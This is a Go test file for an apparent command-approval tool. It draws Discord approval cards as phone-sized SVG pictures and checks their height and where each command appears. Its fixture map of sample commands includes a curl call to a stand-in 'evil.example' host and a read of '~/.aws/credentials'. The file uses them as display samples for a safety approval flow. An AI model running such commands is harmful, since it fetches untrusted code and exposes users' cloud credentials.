package message_test

import (
	"fmt"
	"html"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/bwmarrin/discordgo"

	"github.com/callgate/callgate/host/internal/approval/ask"
	"github.com/callgate/callgate/host/internal/discord/message"
	"github.com/callgate/callgate/host/internal/testkit/asktest"
	"github.com/callgate/callgate/host/internal/testkit/golden"
	"github.com/callgate/callgate/host/internal/testkit/repo"
)

// The measures of Discord on a phone of 390 px, in px, read off its web client: text of 16
// on lines of 22, small print of 13 on 17, code of 14. RATIONALE.md, "How are the pictures
// of cards measured?".
const (
	phone      = 390
	textLeft   = 67
	textWidth  = phone - textLeft - 16
	textLine   = 22
	smallLine  = 17
	codeLine   = 18
	buttonHigh = 32
	menuHigh   = 40
)

// common are the kinds that people answer every day: at most 400 px tall, their call within
// the first 60 characters, or behind the warning that comes first.
var common = map[string]string{
	"plain": "npm run build", "install": "npm install left-pad", "edit": "src/price.ts", "fetch": "docs.python.org",
	"mcp": "create_pull_request", "command": "rm -rf node_modules", "safety-shell": "curl -s https://evil.example/x",
	"folder": "src/price.ts", "ask-rule": "git push", "project-file": "git push", "safety-rule": "git push", "server": "get_issue", "secret": "cat ~/.aws/credentials", "changed": "make",
}

// TestCards draws each kind of card as a phone shows it, into docs/pictures/cards, and
// holds how tall the common ones are and where their call stands.
func TestCards(t *testing.T) {
	t.Parallel()
	var sizes []string
	for _, name := range asktest.Names() {
		a := asktest.Kinds()[name]
		m := message.Card(a, message.View{Instance: "i1"}).Message
		if !a.State.Waiting() {
			was := a
			was.State, was.Input = "shown", asktest.Kinds()["plain"].Input
			m = message.Ended(a, message.End{Call: message.Card(was, message.View{Instance: "i1"}).Call})
		}
		p := drawCard(m)
		golden.File(t, repo.File("docs", "pictures", "cards", name+".svg"), p.svg())
		at, want := -1, common[name]
		if want != "" {
			at = strings.Index(visibleText(m.Content), want)
		}
		sizes = append(sizes, fmt.Sprintf("%-14s %5d px  call at %d", name, p.y, at))
		if limit := 60; want != "" && (p.y > 400 || at < 0 || at >= limit && !strings.HasPrefix(m.Content, "⚠")) {
			t.Errorf("%s is %d px tall, and its call begins at %d: want at most 400 px, and within the first %d characters\n%s", name, p.y, at, limit, m.Content)
		}
		a.TakesInput = true // a button more
		if edits := drawCard(message.Card(a, message.View{Instance: "i1"}).Message); want != "" && edits.y > 400 {
			t.Errorf("%s is %d px tall where its input can be changed", name, edits.y)
		}
	}
	behind := asktest.Behind()[:1]
	common := asktest.Kinds()["changed"] // plain but for that
	common.ID, common.State, common.Changed = "q2m9qd", ask.Queued, nil
	behind = append(behind, common)
	batch := drawCard(message.Card(asktest.Kinds()["install"], message.View{Instance: "i1", Waiting: 2, Behind: behind}).Message)
	if batch.y > 400 {
		t.Errorf("a batch of three common asks is %d px tall: want at most 400 px", batch.y)
	}
	golden.File(t, repo.File("docs", "pictures", "cards", "batch.svg"), batch.svg())
	sizes = append(sizes, fmt.Sprintf("%-14s %5d px", "batch", batch.y))
	grave := []ask.Ask{asktest.Kinds()["safety-shell"], asktest.Kinds()["long"]}
	for i := range grave {
		grave[i].ID, grave[i].State = fmt.Sprintf("q%dm9qd", 1+i), ask.Queued
	}
	careful := drawCard(message.Card(asktest.Kinds()["install"], message.View{Instance: "i1", Waiting: 2, Behind: grave}).Message)
	golden.File(t, repo.File("docs", "pictures", "cards", "batch-careful.svg"), careful.svg())
	sizes = append(sizes, fmt.Sprintf("%-14s %5d px", "batch-careful", careful.y))
	golden.Check(t, "sizes", strings.Join(sizes, "\n")+"\n")
	plain := drawCard(message.Card(asktest.Kinds()["plain"], message.View{Instance: "i1"}).Message)
	golden.File(t, repo.File("docs", "pictures", "card.svg"), plain.svg())
}

// visibleText is a content as a lock screen has it.
func visibleText(content string) string {
	return strings.NewReplacer("**", "", "`", "", "-# ", "", "```\n", "").Replace(content)
}

// phonePicture is an SVG that grows downwards.
type phonePicture struct {
	y    int
	body strings.Builder
}

// word is a piece of text in one style.
type word struct{ text, class string }

// width is about what a word takes.
func (w word) width() float64 {
	n := 0.0
	for _, r := range w.text {
		switch {
		case w.class == "m", w.class == "code":
			n += 8.2
		case w.class == "sm":
			n += 6.9
		case strings.ContainsRune("iljtf.,:;'|! ", r):
			n += 5
		case r == 'm' || r == 'w' || r == 'M' || r == 'W':
			n += 13
		case r >= 'A' && r <= 'Z':
			n += 11
		default:
			n += 9.4
		}
	}
	switch w.class {
	case "small":
		return n * 0.8
	case "bold":
		return n * 1.12
	}
	return n
}

var marks = regexp.MustCompile("\\*\\*([^*]+)\\*\\*|`([^`]+)`|<t:\\d+:[Rf]>|<@&\\d+>")

// words reads the markdown of a line.
func words(text, class, code string) (all []word) {
	add := func(text, class string) {
		for _, part := range strings.SplitAfter(text, " ") {
			if part != "" {
				all = append(all, word{part, class})
			}
		}
	}
	last := 0
	for _, m := range marks.FindAllStringSubmatchIndex(text, -1) {
		add(text[last:m[0]], class)
		switch {
		case m[2] >= 0:
			add(text[m[2]:m[3]], "bold")
		case m[4] >= 0:
			add(text[m[4]:m[5]], code)
		case strings.HasPrefix(text[m[0]:], "<@"):
			add("@ops", "bold")
		default:
			add(map[bool]string{true: "in 58 seconds", false: "01:20"}[strings.HasSuffix(text[m[0]:m[1]], "R>")], class)
		}
		last = m[1]
	}
	add(text[last:], class)
	return all
}

// flow writes words on as many lines as they take.
func (p *phonePicture) flow(left, width, height int, all []word) {
	x := 0.0
	for _, w := range all {
		for w.width() > float64(width) { // within a word, where it must
			cut := len([]rune(w.text)) - 1
			for (word{string([]rune(w.text)[:cut]), w.class}).width() > float64(width)-x && cut > 1 {
				cut--
			}
			p.put(left+int(x), height, word{string([]rune(w.text)[:cut]), w.class})
			w.text, x = string([]rune(w.text)[cut:]), 0
			p.y += height
		}
		if x > 0 && x+(word{strings.TrimRight(w.text, " "), w.class}).width() > float64(width) {
			x = 0
			p.y += height
		}
		p.put(left+int(x), height, w)
		x += w.width()
	}
	p.y += height
}

func (p *phonePicture) put(x, height int, w word) {
	if w.text == "" {
		return
	}
	if w.class == "m" || w.class == "sm" {
		fmt.Fprintf(&p.body, `<rect x="%d" y="%d" width="%.0f" height="%d" fill="#2b2d31"/>`, x, p.y+2, (word{strings.TrimRight(w.text, " "), w.class}).width(), height-3)
	}
	fmt.Fprintf(&p.body, `<text x="%d" y="%d" class="%s" textLength="%.0f" lengthAdjust="spacingAndGlyphs" xml:space="preserve">%s</text>`+"\n",
		x, p.y+height-6, w.class, w.width(), html.EscapeString(w.text))
}

func (p *phonePicture) rect(x, y, width, height int, fill string) {
	fmt.Fprintf(&p.body, `<rect x="%d" y="%d" width="%d" height="%d" rx="4" fill="%s"/>`+"\n", x, y, width, height, fill)
}

// drawCard draws a message as Discord shows it on a phone.
func drawCard(m message.Message) *phonePicture {
	p := &phonePicture{y: 12}
	fmt.Fprintf(&p.body, `<circle cx="35" cy="34" r="20" fill="#5865f2"/><text x="30" y="40" class="bold">g</text>`+"\n")
	p.flow(textLeft, textWidth, textLine, []word{{"gate ", "bold"}, {"APP  01:20", "small"}})
	for i, part := range strings.Split(m.Content, "```") {
		lines := strings.Split(strings.Trim(part, "\n"), "\n")
		if i%2 == 1 {
			p.block(lines)
			continue
		}
		for _, l := range lines {
			if small, ok := strings.CutPrefix(l, "-# "); ok {
				p.flow(textLeft, textWidth, smallLine, words(small, "small", "sm"))
			} else if l != "" {
				p.flow(textLeft, textWidth, textLine, words(l, "", "m"))
			}
		}
	}
	for _, f := range m.Files {
		p.rect(textLeft, p.y+4, textWidth, 44, "#2b2d31")
		p.y += 12
		p.put(textLeft+12, textLine, word{f.Name, ""})
		p.y += 40
	}
	for _, c := range m.Components {
		p.controls(c.(discordgo.ActionsRow))
	}
	p.y += 8
	return p
}

// block is a code block.
func (p *phonePicture) block(lines []string) {
	start, at := p.body.Len(), p.y
	p.y += 10
	for _, l := range lines {
		p.flow(textLeft+8, textWidth-16, codeLine, []word{{l, "code"}})
	}
	p.y += 8
	text := p.body.String()
	p.body.Reset()
	p.body.WriteString(text[:start])
	p.rect(textLeft, at+3, textWidth, p.y-at-4, "#2b2d31")
	p.body.WriteString(text[start:])
}

// controls are the buttons of a row, on as many lines as they take, or its menu.
func (p *phonePicture) controls(r discordgo.ActionsRow) {
	p.y += 8
	x := textLeft
	for _, c := range r.Components {
		switch c := c.(type) {
		case discordgo.Button:
			fill := map[discordgo.ButtonStyle]string{discordgo.SuccessButton: "#248046", discordgo.DangerButton: "#da373c"}[c.Style]
			if fill == "" {
				fill = "#4e5058"
			}
			label := word{c.Label, ""}
			width := int(label.width()*0.9) + 24
			if x > textLeft && x+width > textLeft+textWidth {
				x = textLeft
				p.y += buttonHigh + 8
			}
			p.rect(x, p.y, width, buttonHigh, fill)
			fmt.Fprintf(&p.body, `<text x="%d" y="%d" class="label" textLength="%d" lengthAdjust="spacingAndGlyphs" xml:space="preserve">%s</text>`+"\n", x+12, p.y+21, width-24, html.EscapeString(c.Label))
			x += width + 8
		case discordgo.SelectMenu:
			p.rect(textLeft, p.y, textWidth, menuHigh, "#1e1f22")
			fmt.Fprintf(&p.body, `<text x="%d" y="%d" class="label" xml:space="preserve">%s ⌄</text>`+"\n", textLeft+10, p.y+25, html.EscapeString(c.Placeholder))
			p.y += menuHigh - buttonHigh
		}
	}
	p.y += buttonHigh
}

func (p *phonePicture) svg() string {
	return fmt.Sprintf(`<svg xmlns="http://www.w3.org/2000/svg" width="%d" height="%d" viewBox="0 0 %d %d">
<style>text{font:16px "Helvetica Neue",Helvetica,Arial,sans-serif;fill:#dbdee1}.m,.sm,.code{font-family:ui-monospace,Menlo,Consolas,"DejaVu Sans Mono",monospace;font-size:13.6px}.sm{font-size:11.4px;fill:#949ba4}.bold{font-weight:bold;fill:#fff}.small{font-size:13px;fill:#949ba4}.label{font-size:14.4px;fill:#fff}</style>
<rect width="100%%" height="100%%" fill="#313338"/>
%s</svg>
`, phone, p.y, phone, p.y, p.body.String())
}

// TestPictures_none: no picture is left of a kind that is gone.
func TestPictures_none(t *testing.T) {
	t.Parallel()
	list, err := filepath.Glob(repo.File("docs", "pictures", "cards", "*.svg"))
	if err != nil || len(list) != len(asktest.Names())+2 {
		t.Errorf("%d pictures of %d kinds, %v: run make cards", len(list), len(asktest.Names()), err)
	}
	for _, file := range list {
		name := strings.TrimSuffix(filepath.Base(file), ".svg")
		if _, ok := asktest.Kinds()[name]; !ok && name != "batch" && name != "batch-careful" {
			t.Errorf("%s is of no kind of card: remove it", file)
		}
		if info, err := os.Stat(file); err != nil || info.Size() == 0 {
			t.Errorf("%s: %v", file, err)
		}
	}
}
